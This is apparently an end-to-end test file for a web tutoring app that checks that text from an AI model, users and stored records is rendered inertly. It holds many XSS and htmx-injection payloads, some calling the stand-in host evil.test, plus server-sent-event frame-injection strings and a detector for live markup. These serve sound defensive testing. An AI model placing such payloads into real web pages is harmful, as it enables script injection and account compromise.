"""Whoever writes it, text stays text: nothing runs, nothing is fetched, no frame is injected."""

from collections.abc import Callable
from typing import Any, Final
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.browsing import HostPages, Watch, sign_in, words
from tests.e2e.chats import PROBLEM, answer, ask, composer, ended
from tests.e2e.clients import PASSWORD, Account, Viewer
from tests.e2e.conftest import register
from tests.e2e.host_pages import HTMX_2, HTMX_4, closed, host_page
from tests.e2e.sites import Model, Site
from tests.sse import frames

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(90), pytest.mark.req("T43", "R29")]

MARK: Final = "the last words"
# If any of it came to life it would set `pwned`, ask for a path with `pwned` in it, or ask a foreign host.
HTML: Final = """</div></article></section></main><h1>outside</h1>

<script>window.pwned = 1</script><script src="//evil.test/pwned.js"></script>

<img src=x onerror="window.pwned = 1"><img src="http://evil.test/pwned.png"><svg onload="window.pwned = 1"></svg>

<svg><script>window.pwned = 1</script><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;"></math>

<math><maction actiontype="statusline" xlink:href="javascript:window.pwned=1">x</maction></math>

<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe><object data="javascript:window.pwned=1"></object>

<div hx-get="/pwned" hx-trigger="load">x</div><div data-hx-get="/pwned" data-hx-trigger="load">x</div>

<div hx-sse:connect="/pwned?sse" sse-connect="/pwned?sse2" hx-on:click="window.pwned = 1">x</div>

<div id="turns" hx-swap-oob="innerHTML">replaced</div><template hx type="partial" hx-target="#turns">replaced</template>

<hx-partial hx-target="body">replaced</hx-partial><div data-behavior="composer" data-announce="pwned">x</div>

<meta http-equiv="refresh" content="0;url=http://evil.test/pwned"><base href="http://evil.test/">

<link rel="stylesheet" href="http://evil.test/pwned.css">
<style>@import "http://evil.test/pwned.css"; * { display: none }</style>

<form action="http://evil.test/pwned"><input name="csrf_token"><button>Send</button></form><textarea><plaintext><!--"""
MARKDOWN: Final = r"""[click](javascript:window.pwned=1) [click](JaVa&#x09;Script:window.pwned=1)
[click](data:text/html,<script>1</script>)

[click](vbscript:x) <javascript:window.pwned=1>
[x](http://evil.test/"onmouseover="window.pwned=1) [y]( http://a "onload=pwned")

![i](http://evil.test/pwned.png) ![i](data:image/png;base64,AAAA) ![i](//evil.test/pwned.png "t" )
[![i](http://evil.test/pwned.png)](javascript:1)

[ref]: javascript:window.pwned=1 "x"

[ref] and ![ref]

| <img src=x onerror=window.pwned=1> | [a](javascript:window.pwned=1) |
| --- | --- |
| `<script>window.pwned = 1</script>` | ![i](http://evil.test/pwned.png) |

$\href{javascript:window.pwned=1}{a}$ and $\url{javascript:window.pwned=1}$ and $\includegraphics{http://evil.test/pwned.png}$

$$\htmlData{hx-get=/pwned, hx-trigger=load}{b} \htmlId{turns}{c} \htmlClass{waiting}{d}
\htmlStyle{background: url(http://evil.test/pwned)}{e}$$

$\text{<img src=x onerror=window.pwned=1>}$ and $\unicode{<script>window.pwned=1</script>}$ and $a<b>c</b>$
and \(\href{javascript:window.pwned=1}{x}\)

$\def\x{\x\x}\x$ and $\rule{9999em}{9999em}$ and $x" onmouseover="window.pwned=1$

```html" onmouseover="window.pwned=1
<script>window.pwned = 1</script>
```

```tests
{"input": "<img src=x onerror=window.pwned=1>", "expected": "</code><script>window.pwned=1</script>"}
{"input": "1", "why": "<b hx-get=/pwned hx-trigger=load>"}
```

&lt;script&gt;window.pwned=1&lt;/script&gt; <http://evil.test/fine> &#60;img src=x onerror=window.pwned=1&#62;"""
FRAMES: Final = (
    "one\r\nevent: close\r\ndata: injected\r\n\r\ntwo\rid: 9\rretry: 1\r\r\n\nevent: close\ndata: x\n\nid: other-99\n\n"
    "three\x00\x1b[31m\x85four\u2028event: close\u2029data: y\u2028\u2028five\x0b\x0c\x1c\x1d\x1esix\n\n"
    ": comment\n\ndata: <p>injected</p>\n\nevent: message.end\ndata: {}\n\n"
)
TEXTS: Final = {"html": HTML, "markdown": MARKDOWN, "frames": FRAMES}
# What must be there to be read: the text has come, and as text.
FAITHFUL: Final = {
    HTML: "<script>window.pwned = 1</script>",
    MARKDOWN: "<img src=x onerror=window.pwned=1>",
    FRAMES: "injected",
}
ALL = pytest.mark.parametrize("hostile", [f"{text}\n\n{MARK}" for text in TEXTS.values()], ids=list(TEXTS))
SHORT: Final = """"'><img src=x onerror="window.pwned=1"><b hx-get=/pwned hx-trigger=load>{{7*7}}</title></textarea>"""

# What came to life in the page, of what cannot be there by our own doing.
ALIVE: Final = """(selector) => {
  const alive = window.pwned === undefined ? [] : ["pwned"]
  const banned = "script, iframe, object, embed, form, input, button:not(.copy), textarea, meta, base, link, style, " +
    "img, template, video, audio, svg:not(.katex svg), hx-partial, h1, [hx-swap-oob]"
  for (const root of document.querySelectorAll(selector)) {
    alive.push(...[...root.querySelectorAll(banned)].map((element) => element.outerHTML.slice(0, 200)))
    for (const element of root.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        const isAddress = ["href", "src", "xlink:href", "action", "srcdoc"].includes(name)
        if (/^(on|hx-|data-hx|sse-)/.test(name) || (name === "style" && !element.closest(".katex"))) alive.push(name)
        else if (isAddress && !/^(https?:|mailto:|#|[/](?![/]))/i.test(value)) alive.push(`${name}=${value}`)
      }
    }
  }
  return alive
}"""


def test_the_texts_would_come_to_life_as_markup(
    hosts: HostPages, make_page: Callable[..., Page], shared_site: Site
) -> None:
    page = make_page(shared_site)
    page.route("**/*evil.test/**", lambda route: route.abort())

    page.goto(hosts.page(f"<!doctype html><body><p>{SHORT}</p>"))
    page.wait_for_function("window.pwned === 1")
    assert {"pwned", "hx-get", "onerror"} <= set(page.evaluate(ALIVE, "body"))
    page.goto(hosts.page(f"<!doctype html><body>{HTML.partition('<meta')[0]}"))
    page.wait_for_function("window.pwned === 1")


def inert(page: Page, watch: Watch, selector: str) -> None:
    """Nothing of what is within has come to life."""
    page.wait_for_load_state("networkidle")
    assert page.evaluate(ALIVE, selector) == []
    assert watch.dialogs == []
    assert watch.foreign == []
    own = f"GET {urlsplit(page.url).path}"
    assert [request for request in watch.requests if "pwned" in request and request != own] == []
    assert [said for said in watch.complaints if "Content Security Policy" in said] == [], "the CSP is not the wall"


# -- through the model


@ALL
def test_what_a_model_says_is_inert_as_it_comes_and_as_it_is_kept(
    hostile: str, model: Model, ada: Account, make_page: Callable[..., Page], shared_site: Site
) -> None:
    page = make_page(shared_site)
    watch = Watch(page)
    sign_in(page, ada)
    model.play(text=hostile, pace_s=0.002)
    ada.start(session_id="page-odd-sock", problem_id="odd-sock")

    page.goto(PROBLEM)
    ended(page)
    for _ in ("as it came", "as it is kept"):
        assert page.locator(".turn .answer").count() == 1
        inert(page, watch, ".answer__body, .answer__tests")
        expect(composer(page)).to_be_visible()
        expect(answer(page)).to_contain_text(MARK)
        expect(answer(page)).to_contain_text(FAITHFUL[hostile.removesuffix(f"\n\n{MARK}")])
        page.reload()


@ALL
def test_what_a_model_says_is_inert_on_a_page_without_htmx(
    hostile: str, model: Model, ada: Account, make_page: Callable[..., Page], shared_site: Site
) -> None:
    page = make_page(shared_site)
    page.route("**/static/vendor/htmx-*/**", lambda route: route.abort())
    watch = Watch(page)
    sign_in(page, ada)
    page.goto(PROBLEM)
    page.locator("[name=hint_level][value='3']").evaluate("(rung) => { rung.disabled = false; rung.checked = true }")
    model.play(text=hostile, pace_s=0.002)
    composer(page).fill("Well?")
    page.get_by_role("button", name="Send").click()
    expect(page.get_by_role("link", name="Back to The odd sock")).to_have_count(2, timeout=15_000)

    expect(page.locator(".answer--progressive")).to_contain_text(MARK)
    inert(page, watch, ".answer--progressive")


@pytest.mark.parametrize("htmx", [HTMX_2, HTMX_4], ids=["htmx-2.0.11", "htmx-4.0.1"])
@ALL
def test_what_a_model_says_is_inert_on_a_page_without_csp(
    hostile: str,
    htmx: dict[str, str],
    model: Model,
    hosts: HostPages,
    ada: Account,
    make_page: Callable[..., Page],
    shared_site: Site,
) -> None:
    page = make_page(shared_site)
    page.route("**/*evil.test/**", lambda route: route.abort())
    model.play(text=hostile, pace_s=0.002)
    asked = ada.ask().json
    own = hosts.page("<!doctype html>")
    page.goto(own)
    watch = Watch(page)

    url = f"http://127.0.0.1:{shared_site.port}{asked['stream_url']}&view=html"
    page.goto(host_page(hosts, htmx, asked["stream_id"], url))
    closed(page)

    page.wait_for_load_state("networkidle")
    assert page.evaluate(ALIVE, f"#answer-{asked['stream_id']}-body, #answer-{asked['stream_id']}-tests") == []
    assert [request for request in watch.requests if "pwned" in request] == []
    assert [address for address in watch.foreign if str(shared_site.port) not in address] == []
    assert watch.dialogs == []
    assert MARK in words(page.locator("article").inner_text())
    assert page.locator("body > article").count() == 1


@pytest.mark.parametrize("hostile", [HTML, MARKDOWN, FRAMES], ids=list(TEXTS))
@pytest.mark.req("A6-1")
def test_what_a_model_says_injects_no_frame_into_the_events(hostile: str, model: Model, ada: Account) -> None:
    model.play(text=hostile)

    stream_id = ada.start()
    seen = Viewer(ada, stream_id, until="stream.close").opened().done()

    assert seen.names[0] == "message.start"
    assert {"message.delta", "message.end", "stream.close"} <= set(seen.names)
    assert set(seen.names) <= {"message.start", "message.delta", "tool.suggested_tests", "message.end", "stream.close"}
    assert seen.text == ada.stored(stream_id)["content"]
    assert not set(seen.text) & {chr(code) for code in range(32)} - {"\n", "\t"}, "control characters"
    if hostile is FRAMES:
        assert "\u2028event: close\u2029" in seen.text, "what is no line end in the format stays"


# -- through the user


def test_what_a_user_writes_is_inert(ada: Account, make_page: Callable[..., Page], shared_site: Site) -> None:
    page = make_page(shared_site)
    watch = Watch(page)
    sign_in(page, ada)
    page.goto(PROBLEM)

    ask(page, f"{HTML}\n{SHORT}")
    ended(page)
    for _ in ("as it came", "as it is kept"):
        inert(page, watch, ".turn__question")
        expect(page.locator(".turn__question")).to_contain_text("<script>window.pwned = 1</script>")
        page.reload()


def test_a_problems_texts_are_inert(ada: Account, make_page: Callable[..., Page], shared_site: Site) -> None:
    problem = {
        "id": "hostile",
        "title": SHORT,
        "statement": f"{HTML}\n\n{MARKDOWN}",
        "tags": ["bits"],
        "difficulty": "easy",
        "examples": [{"input": SHORT, "output": SHORT, "explanation": MARKDOWN}],
        "tests": [{"input": SHORT, "expected": SHORT, "why": SHORT}],
    }
    assert ada.call("POST", "/v1/tutor/problems", {**problem, "tags": ["<b>"]}).status == 400, "tags are plain words"
    made = ada.call("POST", "/v1/tutor/problems", problem)
    assert made.status == 201, made.body
    page = make_page(shared_site)
    watch = Watch(page)
    sign_in(page, ada)

    page.goto("/tutor")
    assert page.locator(".problems__link", has_text="onerror").count() == 1
    inert(page, watch, ".problems__item")
    page.goto("/tutor/hostile")
    assert page.get_by_role("heading", level=1).inner_text() == words(SHORT)
    ask(page, "Well?")
    ended(page)

    inert(page, watch, ".problem__statement .prose, .problem__title, .problem__example, .problem__tests, title")


def test_names_titles_and_results_are_inert(ada: Account, make_page: Callable[..., Page], shared_site: Site) -> None:
    stream_id = ada.start(session_id=SHORT[:60], message=SHORT)
    conversation = ada.conversation_of(stream_id)
    assert ada.call("PATCH", f"/api/conversations/{conversation}", {"title": SHORT}).status == 200
    assert ada.call("POST", "/api/auth/tokens", {"name": SHORT}).status == 201
    result = {
        "visible_passed": 0,
        "visible_total": 1,
        "hidden_passed": 0,
        "hidden_total": 1,
        "categories": [SHORT[:60]],
    }
    sent = {"problem_id": "odd-sock", "code": HTML, "language": SHORT[:40], "status": SHORT[:40], **result}
    assert ada.call("POST", "/v1/tutor/submissions", sent).status == 201
    page = make_page(shared_site, user_agent=SHORT)
    watch = Watch(page)
    sign_in(page, ada)

    page.goto("/account")
    assert page.locator(".account__agent", has_text="onerror").count() == 1, "needs a token that calls itself so"
    assert page.locator('.account__agent[title*="onerror"]', has_text="Unknown browser").count() == 1
    inert(page, watch, ".account__agent, .account__what")
    page.goto(PROBLEM)
    inert(page, watch, "#submission, .problem__code")
    assert page.locator("#my-code").input_value().startswith("</div>")
    seen = page.evaluate(
        "(path) => fetch(path).then((answer) => answer.headers.get('content-type'))", "/api/conversations"
    )
    assert seen == "application/json"


@pytest.mark.parametrize(
    "path",
    [
        "/login?next=" + quote("javascript:window.pwned=1"),
        "/login?next=" + quote(SHORT),
        "/register?next=" + quote(SHORT) + "&invite=" + quote(SHORT),
        "/tutor/" + quote(SHORT, safe=""),
        "/" + quote(SHORT, safe=""),
    ],
)
def test_addresses_are_inert(path: str, make_page: Callable[..., Page], shared_site: Site) -> None:
    page = make_page(shared_site)
    watch = Watch(page)

    page.goto(path)

    inert(page, watch, ".card__title, .notice, .card__foot")
    assert page.locator("img:not(.header__mark)").count() == 0


def test_a_hostile_email_is_inert(make_page: Callable[..., Page], shared_site: Site) -> None:
    page = make_page(shared_site)
    watch = Watch(page)
    page.goto("/login")
    page.locator("form[action='/login']").evaluate("(form) => { form.noValidate = true }")
    page.get_by_label("E-mail").evaluate("(field, text) => { field.type = 'text'; field.value = text }", SHORT)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("alert")).to_be_visible()
    assert page.locator("img:not(.header__mark)").count() == 0
    inert(page, watch, ".notice")

    # An address that may be one, with what HTML would take for a tag's attribute.
    register(page, "a'onmouseover='pwned=1'&lt@example.org")
    page.goto("/account")
    expect(page.locator(".page__lead")).to_contain_text("a'onmouseover='pwned=1'&lt@example.org")
    inert(page, watch, ".page__lead")


def test_filters_are_inert(ada: Account, make_page: Callable[..., Page], shared_site: Site) -> None:
    page = make_page(shared_site)
    watch = Watch(page)
    sign_in(page, ada)

    page.goto("/tutor?" + "&".join(f"{name}={quote(SHORT)}" for name in ("q", "difficulty", "tag", "progress")))

    assert page.locator("main [name=q]").input_value() == SHORT
    inert(page, watch, ".problems__list")
    assert page.locator("img:not(.header__mark)").count() == 0


# -- names and ids


@pytest.mark.req("T31")
@pytest.mark.parametrize(
    "name",
    ["x\n\nevent: close\ndata: injected\n\n", 'x" hx-get="pwned" hx-trigger="load', "<script>window.pwned=1<"],
)
def test_a_streams_name_injects_neither_frames_nor_elements(name: str, ada: Account) -> None:
    refused = ada.call("GET", f"/api/streams/{quote(name, safe='')}?view=html", Accept="text/event-stream")

    read = list(frames([refused.body]))
    assert refused.status == 200
    assert [frame.name for frame in read] == ["message", "close"]
    assert (
        "injected" not in refused.body.decode().replace("data: injected", "") or "\ndata: injected" not in read[0].data
    )
    assert "<script>" not in read[0].data
    assert ' hx-get="' not in read[0].data


@pytest.mark.req("T31")
@pytest.mark.parametrize("cursor", ["x\tevent: close", "<script>-1", "a-999999999999999999999", "-", "🙂-1"])
def test_a_cursor_injects_nothing(cursor: str, model: Model, ada: Account) -> None:
    stream_id = ada.start()
    ada.stored(stream_id)

    path = f"/api/streams/{stream_id}?last_event_id={quote(cursor)}"
    seen: Any = ada.call("GET", path, Accept="text/event-stream")
    read = list(frames([seen.body]))

    assert [frame.name for frame in read][:2] == ["stream.start", "message.start"]
    assert read[0].json["verdict"] == "snapshot"
    assert all(frame.own_id is None or frame.own_id.startswith(stream_id) for frame in read)
